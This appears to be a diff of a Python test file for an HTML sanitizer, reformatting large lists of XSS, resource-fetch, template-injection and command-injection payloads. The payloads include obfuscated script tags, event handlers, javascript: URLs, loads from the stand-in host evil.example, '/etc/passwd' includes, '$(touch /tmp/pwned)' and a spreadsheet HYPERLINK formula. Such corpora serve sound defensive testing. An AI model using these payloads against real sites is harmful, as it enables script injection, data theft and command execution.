@@ -10,8 +10,8 @@ EVIL = "http://evil.example"
 # Elements that run, in every spelling a lenient parser forgives.
 SCRIPTS = [
     f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script\t>{RUN}</script >", f"<script/x>{RUN}</script>",
-    f"<script\n>{RUN}</script\n>", f"<script src={EVIL}/s1.js></script>", f"<script src=//evil.example/s2.js></script>",
-    f"<script src='\\\\evil.example\\s3.js'></script>", f"<script type=module>import '{EVIL}/s4.js'</script>",
+    f"<script\n>{RUN}</script\n>", f"<script src={EVIL}/s1.js></script>", "<script src=//evil.example/s2.js></script>",
+    "<script src='\\\\evil.example\\s3.js'></script>", f"<script type=module>import '{EVIL}/s4.js'</script>",
     f"<script type=importmap>{{\"imports\":{{\"x\":\"{EVIL}/s5.js\"}}}}</script>", f"<<script>{RUN}//<</script>",
     f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script>{RUN}", f"<script>{RUN}</script", f"</p><script>{RUN}</script><p>",
     f"<!--[if true]><script>{RUN}</script><![endif]-->", f"<!--><script>{RUN}</script>-->", f"<!--!><script>{RUN}</script>",
@@ -19,15 +19,15 @@ SCRIPTS = [
     f"\x00<script>{RUN}</script>", f"<scr\x00ipt>{RUN}</scr\x00ipt>", f"<noscript><script>{RUN}</script></noscript>",
     f"<template><script>{RUN}</script></template>", f"<xmp><script>{RUN}</script></xmp>", f"<plaintext><script>{RUN}</script>",
     f"<listing>&lt;script&gt;{RUN}&lt;/script&gt;</listing>", f"\ufeff<script>{RUN}</script>", f"\u202e<script>{RUN}</script>",
-    f"<script nonce=guessed>{RUN}</script>", f"<script src='/desk/tickets/1/files/1'></script>",
-    f"<script src=data:text/javascript,{RUN}></script>", f"<script src='data:;base64,d2luZG93LnB3bmVkPTE='></script>",
+    f"<script nonce=guessed>{RUN}</script>", "<script src='/desk/tickets/1/files/1'></script>",
+    f"<script src=data:text/javascript,{RUN}></script>", "<script src='data:;base64,d2luZG93LnB3bmVkPTE='></script>",
 ]  # fmt: skip
 
 # Handlers: on what loads, breaks, moves, is focused, opens or is seen.
 HANDLERS = [
     f"<img src=x onerror={RUN}>", f"<img src=x onerror='{RUN}'>", f"<img src=x oNeRrOr=\"{RUN}\">", f"<img src=x onerror=\n{RUN}>",
     f"<img src=x/onerror={RUN}>", f"<img/src=x/onerror={RUN}>", f"<img src=`x` onerror=`{RUN}`>", f"<img src=x onerror&#61;{RUN}>",
-    f"<img src=x onerror=&#119;indow.pwned&#61;1>", f"<img src='data:image/png;base64,iVBORw0KGgo=' onload={RUN} onerror={RUN}>",
+    "<img src=x onerror=&#119;indow.pwned&#61;1>", f"<img src='data:image/png;base64,iVBORw0KGgo=' onload={RUN} onerror={RUN}>",
     f"<image src=x onerror={RUN}>", f"<img src=x \x0conerror={RUN}>", f"<img src=x \x0bonerror={RUN}>", f"<img src=x \x00onerror={RUN}>",
     f"<img \"\"\"><img src=x onerror={RUN}>\">", f"<img src=x onloadstart={RUN}>", f"<body onload={RUN}>", f"<body onpageshow={RUN}>",
     f"<body onhashchange={RUN}><a href=#x>x</a>", f"<body onscroll={RUN}><br style=margin:9999px>", f"<frameset onload={RUN}>",
@@ -57,7 +57,7 @@ ADDRESSES = [
     f"<a href='vbscript:{RUN}'>x</a>", f"<a href='VbScRiPt&colon;{RUN}'>x</a>", f"<a href='livescript:{RUN}'>x</a>",
     f"<a href='data:text/html,<script>{RUN}</script>'>x</a>", "<a href='data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg=='>x</a>",
     f"<a href='data:image/svg+xml,<svg onload={RUN}>'>x</a>", f"<a href='blob:{EVIL}/x'>x</a>", f"<a href='filesystem:{EVIL}/x'>x</a>",
-    f"<a href='view-source:javascript:{RUN}'>x</a>", f"<a href='file:///etc/passwd'>x</a>", f"<area href=javascript:{RUN}>",
+    f"<a href='view-source:javascript:{RUN}'>x</a>", "<a href='file:///etc/passwd'>x</a>", f"<area href=javascript:{RUN}>",
     f"<map name=m><area shape=default href=javascript:{RUN}></map><img usemap=#m src=x>", f"<iframe src=javascript:{RUN}></iframe>",
     f"<iframe src='data:text/html,<script>{RUN}</script>'></iframe>", f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
     f"<iframe srcdoc='&lt;img src=x onerror=parent.{RUN}&gt;'></iframe>", f"<object data=javascript:{RUN}></object>",
@@ -117,13 +117,13 @@ FETCHES = [
     f"<video><source src={EVIL}/g14.mp4><track default src={EVIL}/g15.vtt></video>", f"<input type=image src={EVIL}/g16.png>", f"<object data={EVIL}/g17></object>",
     f"<embed src={EVIL}/g18>", f"<iframe src={EVIL}/g19></iframe>", f"<frameset><frame src={EVIL}/g20></frameset>", f"<applet code=x archive={EVIL}/g21.jar></applet>",
     f"<bgsound src={EVIL}/g22.wav>", f"<link rel=stylesheet href={EVIL}/g23.css>", f"<link rel=icon href={EVIL}/g24.ico>", f"<link rel=prefetch href={EVIL}/g25>",
-    f"<link rel=preload as=image href={EVIL}/g26>", f"<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
+    f"<link rel=preload as=image href={EVIL}/g26>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=preconnect href={EVIL}>",
     f"<link rel=prerender href={EVIL}/g27>", f"<link rel=modulepreload href={EVIL}/g28.js>", f"<link rel=manifest href={EVIL}/g29>",
     f"<script type=speculationrules>{{\"prefetch\":[{{\"urls\":[\"{EVIL}/g30\"]}}]}}</script>", f"<body background={EVIL}/g31.png>", f"<table background={EVIL}/g32.png><tr><td>x</table>",
     f"<table><tr><td background={EVIL}/g33.png>x</table>", f"<meta http-equiv=refresh content='0;url={EVIL}/g34'>", f"<meta http-equiv=Link content='<{EVIL}/g35>; rel=preload'>",
-    f"<meta http-equiv=Set-Cookie content='hauspost=x'>", f"<base href={EVIL}/><img src=g36.png>", f"<a href=# ping={EVIL}/g37>x</a>", f"<html manifest={EVIL}/g38>",
+    "<meta http-equiv=Set-Cookie content='hauspost=x'>", f"<base href={EVIL}/><img src=g36.png>", f"<a href=# ping={EVIL}/g37>x</a>", f"<html manifest={EVIL}/g38>",
     f"<input list=l autofocus><datalist id=l><img src={EVIL}/g39></datalist>", f"<portal src={EVIL}/g40></portal>", f"<fencedframe src={EVIL}/g41></fencedframe>",
-    f"<img attributionsrc={EVIL}/g42 src=x>", "<img src=cid:nowhere@evil.example>", f"<img src='http:/\t/evil.example/g43'>", "<img src='ht\ntp://evil.example/g44'>",
+    f"<img attributionsrc={EVIL}/g42 src=x>", "<img src=cid:nowhere@evil.example>", "<img src='http:/\t/evil.example/g43'>", "<img src='ht\ntp://evil.example/g44'>",
     "<img src='&#104;ttp://evil.example/g45'>", "<img src='/\\evil.example/g46'>", "<img src='http:evil.example/g47'>", "<img src='ftp://evil.example/g48'>",
     f"<img src='x' crossorigin srcset='{EVIL}/g49 100w' sizes=100vw>", f"<xml src={EVIL}/g50></xml>", f"<v:imagedata src={EVIL}/g51.png></v:imagedata>", f"<!--[if gte mso 9]><v:fill src={EVIL}/g52.png><![endif]-->",
 ]  # fmt: skip
@@ -167,7 +167,7 @@ CLOBBERING = [
 TEMPLATES = [
     "{{7*7}}", "{{ config }}{{ request.META }}", "{% debug %}", "{% include '/etc/passwd' %}", "{{''.__class__.__mro__}}", "%(x)s", "%s%s%s%n", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{0.__class__}", "{person}",
     "$(touch /tmp/pwned)", "`touch /tmp/pwned`", "\u202egpj.exe", "\u2066invoice\u2069\u202etxt.js", "=HYPERLINK(\"http://evil.example\",\"x\")", "[[7*7]] {{constructor.constructor('window.pwned=1')()}}",
-    f"[x](javascript:{RUN})", f"![x]({EVIL}/t1.png)", f"<http://evil.example/t2>", f"http://evil.example/\"onmouseover={RUN}//", f"http://evil.example/'><script>{RUN}</script>", f"https://x.example/<img/src/onerror={RUN}>",
+    f"[x](javascript:{RUN})", f"![x]({EVIL}/t1.png)", "<http://evil.example/t2>", f"http://evil.example/\"onmouseover={RUN}//", f"http://evil.example/'><script>{RUN}</script>", f"https://x.example/<img/src/onerror={RUN}>",
     f"javascript:{RUN}", f"mailto:x@x.example?subject=<script>{RUN}</script>", f"www.evil.example/\"><svg/onload={RUN}>",
 ]  # fmt: skip
 
